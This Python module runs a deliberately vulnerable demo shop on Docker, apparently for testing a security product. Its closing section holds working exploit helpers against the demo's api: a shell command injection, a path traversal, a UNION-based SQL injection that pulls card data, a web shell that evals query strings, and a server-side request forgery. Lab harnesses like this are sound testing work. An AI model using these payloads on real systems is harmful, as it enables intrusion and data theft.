"""The demo shop on a Docker Engine, for the demo and for tests.

    with Shop("unix:///var/run/docker.sock", form="compose", cache="build/demo") as shop:
        truth = shop.traffic(duration=20, seed=1)
        hit = shop.exploit_command_injection("id")      # hit.output, hit.container

start() makes the images (Debian packages, kept in `cache`), loads them and starts both applications, shop and office, as two Compose projects
or as two Swarm stacks; stop() removes all of it and raises DemoError if something stays. At most one Shop an engine. The api has holes on purpose:
ports are published on the loopback address only. What talks to what is in topology.py, with what traffic() records.
"""
import collections
import dataclasses
import html
import http.client
import json
import pathlib
import re
import threading
import time
import urllib.parse

from . import forms, images
from .engine import Engine, EngineError, SocketMaker, WebConnection
from .forms import APPLICATIONS, DemoError  # noqa: F401

REPO = pathlib.Path(__file__).resolve().parents[1]
SERVICES = {"shop": ("front", "api", "worker", "payments", "cache", "db"), "office": ("reports", "memo", "broker", "cron")}
APPLICATION = {s: a for a, services in SERVICES.items() for s in services}
WEB_PORT = {"front": 80, "reports": 8080}

Container = collections.namedtuple("Container", "id name application service")


@dataclasses.dataclass
class Answer:
    status: int
    body: bytes
    headers: http.client.HTTPMessage

    @property
    def text(self):
        return self.body.decode(errors="replace")

    @property
    def json(self):
        return json.loads(self.body)


@dataclasses.dataclass
class Hit:
    """What an attack gave: its output, and the container that it hit (id)."""
    output: bytes
    container: str
    request: str
    status: int = 200

    @property
    def text(self):
        return self.output.decode(errors="replace")


class Shop:
    """overrides: service -> what is merged into its container's body of Docker's create call, e.g. {"api": {"HostConfig": {"CapAdd": ["SYS_ADMIN"]}}}
    (compose form); replicas: service -> number; ports: service -> port on 127.0.0.1 for front and reports (0: any); netns: path of the network
    namespace of an engine that is not in ours; placement: service -> id of a node that has the images (swarm form; see load())."""

    def __init__(self, docker_socket="unix:///var/run/docker.sock", form="compose", *, cache=None, netns=None, ports=None, replicas=None, overrides=None,
                 placement=None, say=lambda text: None):
        self.engine = Engine(docker_socket)
        self.cache = pathlib.Path(cache or REPO / "build" / "demo")
        self.say = say
        self.sockets = SocketMaker(netns)
        self.given_up = threading.Event()  # set: start() ends with DemoError as soon as it can
        options = self.engine, replicas or {}, overrides or {}, ports or {}, self.given_up
        if form not in ("compose", "swarm"):
            raise ValueError(f"form is compose or swarm, not {form}")
        self.form = forms.Compose(*options) if form == "compose" else forms.Swarm(*options, placement)
        self.replicas = {s: n.get("deploy", {}).get("replicas", 1) for a in APPLICATIONS for s, n in forms.definition(a)["services"].items()}
        self.replicas.update(replicas or {})
        self._addresses = {}

    # ---- life ----

    def __enter__(self):
        try:
            return self.start()
        except BaseException:
            self.stop(check=False)
            raise

    def __exit__(self, *exc):
        self.stop(check=exc[0] is None)

    def load(self, engine=None):
        """Makes the images and gives the engine those that it has not got."""
        made = images.build(self.cache, self.say)
        n = images.load(engine or self.engine, made)
        if n:
            self.say(f"loaded {n} images")

    def start(self, deadline=180.0):
        """Everything up and answering, or DemoError with the logs of what is not."""
        left = forms.clean(self.engine, images=False)
        if left:
            raise DemoError(f"cannot remove what an earlier demo left: {', '.join(left)}")
        forms.refuse_foreign(self.engine)
        self.load()
        self.form.up()
        self.wait_ready(deadline)
        return self

    def wait_ready(self, deadline=180.0):
        end = time.monotonic() + deadline
        while (missing := self._missing()):
            if time.monotonic() > end:
                logs = "\n".join(f"--- {c.name}\n{self._log_tail(c.id)}" for c in self.containers(all=True))
                raise DemoError(f"after {deadline:g} s still missing: {missing}\n{logs}")
            if self.given_up.wait(0.25):
                raise DemoError("given up")

    def _log_tail(self, ident):
        try:
            return "\n".join(self.engine.logs(ident).splitlines()[-8:])
        except EngineError as e:
            return str(e)

    def _missing(self):
        """What is not there yet, in words; None when everything is."""
        for service in ("front", "reports"):
            try:
                answer = self.get("/readyz", service=service, timeout=10)
            except (OSError, http.client.HTTPException, DemoError) as e:
                self._addresses.clear()
                return f"{service}: {e}"
            if answer.status != 200:
                return f"{service}: {answer.status} {answer.text[:200]}"
        try:
            status, keys = self.execute("cache", ["redis-cli", "--scan", "--pattern", "*:*"])
        except (EngineError, DemoError) as e:
            return str(e)
        living = {c.id[:12] for c in self.containers()}
        for service, prefix in (("api", "replica"), ("worker", "worker")):
            there = {k.split(":")[1] for k in keys.split() if k.startswith(f"{prefix}:")} & living
            if len(there) < self.replicas[service]:
                return f"{service}: {len(there)} of {self.replicas[service]}"
        for service in ("memo", "broker", "cron"):
            if len(self.containers(service)) < self.replicas[service]:
                return service
        return None

    def stop(self, check=True, images=True):
        """Removes all, images too. DemoError if something stays."""
        self.sockets.close()
        left = forms.clean(self.engine, images)
        if check and left:
            raise DemoError(f"could not be removed: {', '.join(left)}")

    def leftovers(self):
        return forms.leftovers(self.engine)

    # ---- containers ----

    def containers(self, service=None, all=False):
        """Those of one service, or of both applications."""
        found = []
        for name in [service] if service else APPLICATION:
            application = APPLICATION[name]
            listed = self.engine.call("GET", "/containers/json", all=int(all), filters={"label": self.form.service_label(application, name)})
            found += [Container(c["Id"], c["Names"][0].lstrip("/"), application, name) for c in listed if "oneoff=True" not in str(c["Labels"])]
        return sorted(found, key=lambda c: c.name)

    def container(self, service):
        found = self.containers(service)
        if not found:
            raise DemoError(f"no container of {service} runs")
        return found[0]

    def workload(self, service):
        """What Bulkhead calls it: (application, workload)."""
        return APPLICATION[service], self.form.workload(APPLICATION[service], service)

    def execute(self, service, argv):
        """`docker exec` in the service's first container: (status, output)."""
        return self.engine.execute(self.container(service).id, argv)

    def logs(self, service):
        """Of all its containers that still are, one line each."""
        return "".join(self.engine.logs(c.id) for c in self.containers(service, all=True)).splitlines()

    def restart_replica(self, service):
        """One of the service's replicas goes and comes again, as in an update. Returns the container that went."""
        gone = self.containers(service)[-1]
        self.form.restart(gone.id)
        return gone

    def run_job(self):
        """A container that does one report and is gone: `docker run --rm`. Returns what it printed."""
        cron = self.engine.call("GET", f"/containers/{self.container('cron').id}/json")
        network = next(n for n in cron["NetworkSettings"]["Networks"] if n.endswith("desk"))
        labels = {**forms.LABELS}
        if self.form.name == "compose":  # as `docker compose run` labels it
            labels.update({"com.docker.compose.project": "office", "com.docker.compose.service": "cron", "com.docker.compose.oneoff": "True",
                           "com.docker.compose.container-number": "1"})
        body = {"Image": cron["Config"]["Image"], "Env": cron["Config"]["Env"], "Cmd": ["/srv/jobs/report"], "Labels": labels,
                "HostConfig": {"NetworkMode": network}}
        ident = self.engine.call("POST", "/containers/create", body)["Id"]
        try:
            self.engine.call("POST", f"/containers/{ident}/start")
            status = self.engine.call("POST", f"/containers/{ident}/wait")["StatusCode"]
            out = self.engine.logs(ident)
        finally:
            self.engine.remove(f"/containers/{ident}?force=1&v=1")
        if status != 0:
            raise DemoError(f"the report's container ended with status {status}: {out}")
        return out

    # ---- the web ----

    def address(self, service="front"):
        """(address, port) that reaches it from this machine, and nobody else."""
        if service not in self._addresses:
            settings = self.engine.call("GET", f"/containers/{self.container(service).id}/json")["NetworkSettings"]
            port = WEB_PORT[service]
            published = (settings["Ports"] or {}).get(f"{port}/tcp")
            if published:
                if any(p["HostIp"] != "127.0.0.1" for p in published):
                    raise DemoError(f"{service} is published on {published}, not on the loopback address alone")
                self._addresses[service] = "127.0.0.1", int(published[0]["HostPort"])
            else:
                gateway = self.engine.call("GET", f"/networks/{forms.GATEWAY}")["Containers"]
                ident = self.container(service).id
                if ident not in gateway:
                    raise DemoError(f"{service} has no address yet")
                self._addresses[service] = gateway[ident]["IPv4Address"].split("/")[0], port
        return self._addresses[service]

    @property
    def url(self):
        return "http://%s:%d/" % self.address("front")

    @property
    def office_url(self):
        return "http://%s:%d/" % self.address("reports")

    def request(self, method, path, body=None, headers=None, service="front", timeout=60):
        """One request on a connection of its own. OSError and http.client's errors as they come."""
        connection = WebConnection(self.sockets, *self.address(service), timeout)
        try:
            connection.request(method, path, body, headers or {})
            response = connection.getresponse()
            return Answer(response.status, response.read(), response.headers)
        finally:
            connection.close()

    def get(self, path, **more):
        return self.request("GET", path, **more)

    def traffic(self, duration, seed=1, **options):
        """Users at work for so many seconds; see traffic.Traffic. Returns the Truth of what they caused."""
        from .traffic import Traffic
        return Traffic(self, duration, seed, **options).run()

    # ---- the holes ----

    def _attack(self, method, path, body=None, timeout=300, ok=(200,)):
        answer = self.request(method, path, body, {"User-Agent": "Mozilla/5.0"}, timeout=timeout)
        served = answer.headers.get("X-Served-By", "")
        ident = next((c.id for c in self.containers("api", all=True) if c.id.startswith(served)), served) if served else ""
        if answer.status not in ok:
            raise DemoError(f"the hole did not work: {method} {path}: {answer.status} {answer.text[:500]}")
        return Hit(answer.body, ident, f"{method} {path}", answer.status)

    def exploit_command_injection(self, command, timeout=300):
        """`command` runs in a shell below the api's web server, as root of its container; the output of both kinds is in the answer."""
        return self._attack("GET", "/tools/lookup?" + urllib.parse.urlencode({"host": f"127.0.0.1 >/dev/null;{command}"}), timeout=timeout)

    def exploit_path_traversal(self, path):
        """A file of the api's container."""
        return self._attack("GET", "/download?" + urllib.parse.urlencode({"file": "../.." + path}))

    def exploit_sql_injection(self, expressions="id, name || ' ' || card, email", table="customers"):
        """Three columns (a number and two texts) of any table, as rows of texts."""
        words = f"nothing' UNION SELECT {expressions} FROM {table} --"
        hit = self._attack("GET", "/search?" + urllib.parse.urlencode({"q": words}))
        rows = re.findall(r"<li><a href='/product\?id=(.*?)'>(.*?)</a> <b>(.*?)</b></li>", hit.text)
        hit.rows = [tuple(html.unescape(c) for c in row) for row in rows]
        return hit

    def exploit_upload(self, name, data):
        """A file in the directory of uploads, which is served at /uploads/."""
        return self._attack("POST", "/upload?" + urllib.parse.urlencode({"name": name}), data)

    def exploit_web_shell(self, command, name="shell.cgi"):
        """Uploads a web shell and runs a command through it: two requests."""
        self.exploit_upload(name, b"#!/bin/sh\nexec bash -c 'eval \"$(printf %b \"${QUERY_STRING//%/\\\\x}\")\"' 2>&1\n")
        return self._attack("GET", f"/uploads/{name}?" + urllib.parse.quote(command, safe=""))

    def exploit_request_forgery(self, url):
        """What the api sees at that address: the payments' keys, a cloud's metadata."""
        return self._attack("GET", "/preview?" + urllib.parse.urlencode({"url": url}), ok=(200, 502))
